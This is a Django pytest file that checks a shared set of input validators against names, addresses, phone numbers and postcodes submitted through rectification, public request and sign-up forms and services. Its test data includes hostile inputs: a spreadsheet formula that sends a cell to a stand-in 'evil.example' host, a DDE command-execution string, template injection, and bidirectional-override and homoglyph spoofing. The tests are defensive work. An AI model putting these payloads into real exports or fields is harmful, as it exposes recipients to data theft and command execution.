"""One set of field validators, used by every form and by the services behind them.

The values below are what an outside test typed into rectification and the public
request form, which then flowed on to invoices and to the collector's file.
"""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from kluis.accounts import services as account_services
from kluis.accounts.validators import clean_person_fields, normalize_phone, normalize_postcode
from kluis.rights import services as rights_services
from kluis.rights.models import RightsRequest
from kluis.testing import log_in
from kluis.web import services as web_services

RTL_OVERRIDE = "Alice \u202egnirtS"
MIXED_SCRIPT = "Alic\u0435 de Vries"  # a Cyrillic e (U+0435)
TEMPLATE = "{{ request.user.email }}"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'
BAD_NAMES = [RTL_OVERRIDE, MIXED_SCRIPT, TEMPLATE, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"]
BAD_PHONES = ["not-a-phone <b>", "020 123 4567 <b>", "+31 20 123 4567\u202e", "bel me"]


@pytest.mark.parametrize("value", BAD_NAMES)
@pytest.mark.parametrize("field", ["name", "company_name", "street", "city"])
def test_names_and_addresses_refuse_what_reorders_spoofs_or_runs(field, value):
    with pytest.raises(ValidationError) as refused:
        clean_person_fields({field: value})
    assert field in refused.value.message_dict


@pytest.mark.parametrize("value", BAD_PHONES)
def test_a_phone_is_digits_and_punctuation_only(value):
    with pytest.raises(ValidationError):
        normalize_phone(value)


@pytest.mark.parametrize(
    ("typed", "country", "stored"),
    [
        ("+32 3 123 45 67", "NL", "+3231234567"),  # Antwerp, typed in international form
        ("0032 3 123 45 67", "BE", "+3231234567"),
        ("020 123 4567", "NL", "+31201234567"),
        ("+31 (0)20-123.4567", "NL", "+31201234567"),
    ],
)
def test_real_phone_numbers_are_taken_in_the_forms_people_write(typed, country, stored):
    assert normalize_phone(typed, region=country) == stored


@pytest.mark.parametrize(
    ("typed", "country", "stored"),
    [("1234ab", "NL", "1234 AB"), ("2000", "BE", "2000"), ("SW1A 1AA", "GB", "SW1A 1AA")],
)
def test_postcodes_by_country(typed, country, stored):
    assert normalize_postcode(typed, country=country) == stored


@pytest.mark.parametrize(("typed", "country"), [("0123 AB", "NL"), ("=1+1", "NL"), ("12", "BE")])
def test_a_bad_postcode_is_refused(typed, country):
    with pytest.raises(ValidationError):
        normalize_postcode(typed, country=country)


def test_free_text_keeps_lines_and_braces_but_not_direction_overrides():
    assert clean_person_fields({"message": "Hoi,\n{{ geen template }}\n"})["message"]
    with pytest.raises(ValidationError):
        clean_person_fields({"message": "Betaal aan \u202eLN98"})


# --- the forms that skipped the checks ----------------------------------------------------


@pytest.mark.django_db(databases="__all__")
@pytest.mark.parametrize(
    ("field", "value"),
    [("name", v) for v in BAD_NAMES]
    + [("address_street", FORMULA), ("address_city", TEMPLATE), ("address_postcode", "<b>1</b>")]
    + [("phone", v) for v in BAD_PHONES],
)
def test_rectification_refuses_what_sign_up_refuses(client, personas, field, value):
    log_in(client, personas.alice)
    before = personas.customer_a.name.open()
    data = {"name": "Alice de Vries", field: value}
    response = client.post(reverse("rights_portal:rectify"), data)
    assert response.status_code == 200
    assert 'class="error-summary"' in response.content.decode()
    personas.customer_a.refresh_from_db()
    assert personas.customer_a.name.open() == before


@pytest.mark.django_db(databases="__all__")
@pytest.mark.parametrize("value", BAD_NAMES)
def test_the_public_request_form_refuses_a_bad_name(client, value):
    response = client.post(
        reverse("rights:request"),
        {"name": value, "email": "alice@example.nl", "kind": "access"},
    )
    assert response.status_code == 200 and 'class="error-summary"' in response.content.decode()
    assert not RightsRequest.objects.exists()


# --- the services check too ---------------------------------------------------------------


@pytest.mark.django_db(databases="__all__")
def test_rectify_refuses_a_formula_even_without_a_form(personas):
    with pytest.raises(ValidationError):
        rights_services.rectify(
            customer=personas.customer_a,
            changes={"address_street": FORMULA},
            by=personas.alice.actor(),
        )
    personas.customer_a.refresh_from_db()
    assert personas.customer_a.address_street is None or (
        personas.customer_a.address_street.open() != FORMULA
    )


@pytest.mark.django_db(databases="__all__")
def test_the_public_request_service_refuses_a_bad_name():
    with pytest.raises(ValidationError):
        rights_services.request_from_public(
            name=RTL_OVERRIDE,
            email="x@example.nl",
            kind="access",
            language="nl",
            client_address="192.0.2.1",
        )
    assert not RightsRequest.objects.exists()


@pytest.mark.django_db(databases="__all__")
def test_sign_up_and_questions_refuse_without_a_form():
    with pytest.raises(ValidationError):
        account_services.customer_sign_up(
            kind="person",
            name="Carla Smit",
            company_name="",
            email="carla@example.nl",
            phone="not-a-phone <b>",
            language="nl",
            client_address="192.0.2.1",
        )
    with pytest.raises(ValidationError):
        web_services.question_submit(
            name=MIXED_SCRIPT,
            email="carla@example.nl",
            message="Hoi",
            language="nl",
            client_address="192.0.2.1",
        )
